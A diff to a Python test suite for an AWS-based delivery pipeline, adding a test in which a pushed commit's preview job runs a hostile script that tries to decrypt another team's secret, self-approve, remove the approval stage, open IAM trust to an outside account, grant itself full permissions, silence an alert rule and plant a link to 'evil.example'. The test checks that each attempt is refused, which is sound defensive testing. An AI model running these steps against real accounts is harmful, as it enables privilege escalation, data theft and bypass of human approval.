@@ -7,6 +7,8 @@ from __future__ import annotations
 
 import io
 import json
+import re
+import uuid
 import zipfile
 from dataclasses import dataclass
 from typing import TYPE_CHECKING, Any
@@ -146,6 +148,9 @@ class Delivery:
         )["events"]
         return "\n".join(event["message"] for event in events)
 
+    def definition(self) -> dict[str, Any]:
+        return self.pipelines.get_pipeline(name=PIPELINE)["pipeline"]
+
     def mails(self, word: str) -> list[dict[str, Any]]:
         return [m for m in self.project.cloud.internal("GET", "/_local/inbox") if word in f"{m['subject']}{m['body']}"]
 
@@ -187,7 +192,7 @@ def policy(delivery: Delivery, role: str) -> str:
 
 
 def definition(delivery: Delivery) -> str:
-    return json.dumps(delivery.pipelines.get_pipeline(name=PIPELINE)["pipeline"])
+    return json.dumps(delivery.definition())
 
 
 def build(delivery: Delivery) -> str:
@@ -274,11 +279,11 @@ def test_what_changed_behind_an_approvals_back_is_not_deployed(delivery: Deliver
     assert delivery.announced(execution).counts == {"create": 1}
     wanted = (delivery.checkout.folder / "Pulumi.local.yaml").read_text()
 
-    def keep_longer(config: dict[str, Any]) -> None:
-        config["mlops-infra:operations"]["logRetentionDays"] = 14
+    def scan_more(config: dict[str, Any]) -> None:
+        config["mlops-infra:kpis"]["scanLimitMegabytes"] = 200
 
     (delivery.checkout.folder / "Pulumi.local.yaml").write_text(before)
-    delivery.checkout.edit(keep_longer)
+    delivery.checkout.edit(scan_more)
     assert set(delivery.project.changes("up")) == {"update"}
     (delivery.checkout.folder / "Pulumi.local.yaml").write_text(wanted)
 
@@ -286,8 +291,8 @@ def test_what_changed_behind_an_approvals_back_is_not_deployed(delivery: Deliver
     assert ended["status"] == "Failed"
     assert list(delivery.actions(ended)) == ACTIONS[:5]
     log = delivery.log(ended, "Deploy")
-    assert "notifications-notifier-logs: not in the approved change set" in log, log
-    assert retention(delivery) == 14, "nothing was changed"
+    assert "update aws:athena/workgroup:Workgroup kpis-workgroup: not in the approved change set" in log, log
+    assert scan_limit(delivery) == 200_000_000, "nothing was changed"
     assert SUBSCRIBER not in subscribers(delivery)
 
 
@@ -306,13 +311,18 @@ def test_a_commit_that_is_approved_is_deployed_upserted_and_verified(delivery: D
     actions = delivery.actions(ended)
     assert {name: action["status"] for name, action in actions.items()} == dict.fromkeys(ACTIONS, "Succeeded"), actions
     assert actions["Upsert"]["variables"]["PIPELINE_ACTION"] == "unchanged"
-    assert retention(delivery) == 7
+    assert scan_limit(delivery) == 100_000_000
     assert SUBSCRIBER in subscribers(delivery)
     functions = delivery.project.root("lambda")
     configuration = functions.get_function_configuration(FunctionName=delivery.project.outputs()["notifier"])
     assert configuration["Environment"]["Variables"]["TEAM"] == "abalone"
     table = delivery.project.root("glue").get_table(DatabaseName="abalone_local_kpis", Name="model_metrics")["Table"]
     assert table["Description"].startswith("A row for each evaluated execution")
+
+
+def scan_limit(delivery: Delivery) -> int:
+    [workgroup] = [delivery.project.root("athena").get_work_group(WorkGroup="abalone-local-kpis")["WorkGroup"]]
+    return workgroup["Configuration"]["BytesScannedCutoffPerQuery"]
 
 
 def retention(delivery: Delivery) -> int:
@@ -324,6 +334,107 @@ def subscribers(delivery: Delivery) -> list[str]:
     topic = delivery.project.outputs()["topic_arn"]
     found = delivery.project.root("sns").list_subscriptions_by_topic(TopicArn=topic)["Subscriptions"]
     return [subscription["Endpoint"] for subscription in found]
+
+
+HOSTILE = """
+import json
+import boto3
+from botocore.exceptions import ClientError
+
+TARGET = json.loads(%r)
+TRUST = {"Version": "2012-10-17", "Statement": [
+    {"Effect": "Allow", "Principal": {"AWS": "arn:aws:iam::999999999999:root"}, "Action": "sts:AssumeRole"}]}
+POLICY = {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "*", "Resource": "*"}]}
+codepipeline, iam, s3 = boto3.client("codepipeline"), boto3.client("iam"), boto3.client("s3")
+pipeline, prefix = TARGET["definition"]["name"], "abalone-local"
+approval = {"pipelineName": pipeline, "stageName": "Approve", "actionName": "Approve", "token": TARGET["token"]}
+decision = {"status": "Approved", "summary": "routine"}
+write = {"Bucket": TARGET["artifacts"], "Body": b"routine"}
+attempts = {
+    "decrypt with another team's key": lambda: boto3.client("kms").decrypt(
+        CiphertextBlob=bytes.fromhex(TARGET["secret"])),
+    "read the token": lambda: codepipeline.get_pipeline_state(name=pipeline),
+    "approve": lambda: codepipeline.put_approval_result(**approval, result=decision),
+    "remove the approval": lambda: codepipeline.update_pipeline(pipeline=TARGET["definition"]),
+    "start a delivery": lambda: codepipeline.start_pipeline_execution(name=pipeline),
+    "run the deployment": lambda: boto3.client("codebuild").start_build(projectName=f"{prefix}-deploy"),
+    "open the trust of deploy": lambda: iam.update_assume_role_policy(
+        RoleName=f"{prefix}-deploy", PolicyDocument=json.dumps(TRUST)),
+    "open the trust of approve": lambda: iam.update_assume_role_policy(
+        RoleName=f"{prefix}-approve", PolicyDocument=json.dumps(TRUST)),
+    "take every permission": lambda: iam.put_role_policy(
+        RoleName=f"{prefix}-preview", PolicyName="more", PolicyDocument=json.dumps(POLICY)),
+    "become the approver": lambda: boto3.client("sts").assume_role(
+        RoleArn=f"arn:aws:iam::123456789012:role/{prefix}-approve", RoleSessionName="routine"),
+    "read the data": lambda: s3.list_objects_v2(Bucket=TARGET["data"]),
+    "read a row": lambda: s3.get_object(Bucket=TARGET["data"], Key=TARGET["row"]),
+    "write the report": lambda: s3.put_object(**write, Key=TARGET["report"]),
+    "write the source": lambda: s3.put_object(**write, Key=f"{pipeline[:20]}/Source/abcdefg"),
+    "write what was deployed": lambda: s3.put_object(**write, Key=f"{pipeline}/delivered/source.zip"),
+    "write to people": lambda: boto3.client("sns").publish(TopicArn=TARGET["topic"], Message="routine"),
+    "change the notifier": lambda: boto3.client("lambda").update_function_configuration(
+        FunctionName=f"{prefix}-notifier", Description="routine"),
+    "silence the rule": lambda: boto3.client("events").disable_rule(Name=f"{prefix}-waiting-approvals"),
+}
+for name, attempt in attempts.items():
+    try:
+        attempt()
+    except ClientError as error:
+        print(f"attempt to {name}: {error.response['Error']['Code']}")
+    else:
+        print(f"attempt to {name}: DONE")
+from delivery.environment import ActionEnvironment
+from delivery.job import write_output
+from messages.change_set import ChangeSet
+environment = ActionEnvironment.from_environment()
+write_output("preview.json", ChangeSet(stack="local", commit=environment.commit_id, unchanged=157).to_json())
+for name in ("CHANGES", "PREVIEW_URL", "preview.md"):
+    write_output(name, "routine, see https://console-aws.evil.example")
+"""
+
+
+def test_a_pushed_commit_can_do_nothing_of_its_own_before_a_person_has_approved_it(delivery: Delivery) -> None:
+    """What the job Preview runs is the commit's: here it tries all that it may not, and then announces nothing."""
+    root, outputs, before = delivery.project.root, delivery.project.outputs(), delivery.definition()
+    tags = [{"TagKey": "project", "TagValue": "churn"}, {"TagKey": "environment", "TagValue": "prod"}]
+    key = root("kms").create_key(Tags=tags)["KeyMetadata"]["KeyId"]
+    row = "use-case=abalone/input/abalone.csv"
+    root("s3").put_object(Bucket=outputs["data_bucket"], Key=row, Body=b"1")
+    changed = {**before, "stages": [stage for stage in before["stages"] if stage["name"] != "Approve"]}
+    target = {
+        "secret": root("kms").encrypt(KeyId=key, Plaintext=b"another team's")["CiphertextBlob"].hex(),
+        "definition": changed,
+        "token": str(uuid.uuid4()),
+        "topic": outputs["topic_arn"],
+        "artifacts": outputs["artifact_bucket"],
+        "data": outputs["data_bucket"],
+        "row": row,
+        "report": f"{PIPELINE}/previews/{uuid.uuid4()}/preview.md",
+    }
+    file = delivery.checkout.folder / "delivery" / "preview.py"
+    honest = file.read_text()
+    file.write_text(HOSTILE % json.dumps(target))
+    commit = delivery.checkout.push("Routine: nothing to see")
+    [execution] = delivery.settled(commit)
+
+    log = delivery.log(execution, "Preview")
+    attempts = dict(re.findall(r"attempt to (.*): (\w+)", log))
+    assert len(attempts) == HOSTILE.count("lambda: "), log
+    # The second is SNS's.
+    refusals = {"AccessDenied", "AccessDeniedException", "AuthorizationError"}
+    assert {name: code for name, code in attempts.items() if code not in refusals} == {}
+    assert delivery.waiting()["execution"] == execution["pipelineExecutionId"]
+    assert delivery.definition() == before
+
+    [mail] = eventually(lambda: [m for m in delivery.mails(commit) if m["attributes"]["status"] == "PendingApproval"])
+    assert "delivery/ 1" in mail["body"]
+    assert "its own code, which may be wrong, or lie" in mail["body"]
+    report = delivery.report(execution)
+    assert "- changed `delivery/preview.py`\n" in report
+    assert not [text for text in (mail["body"], report) if "evil.example" in text or "routine, see" in text]
+    assert delivery.decide(commit, "Rejected")["status"] == "Failed"
+    file.write_text(honest)
+    delivery.checkout.push("Back to an honest preview")
 
 
 def test_a_pull_request_gets_one_preview_that_is_edited_in_place(delivery: Delivery) -> None:
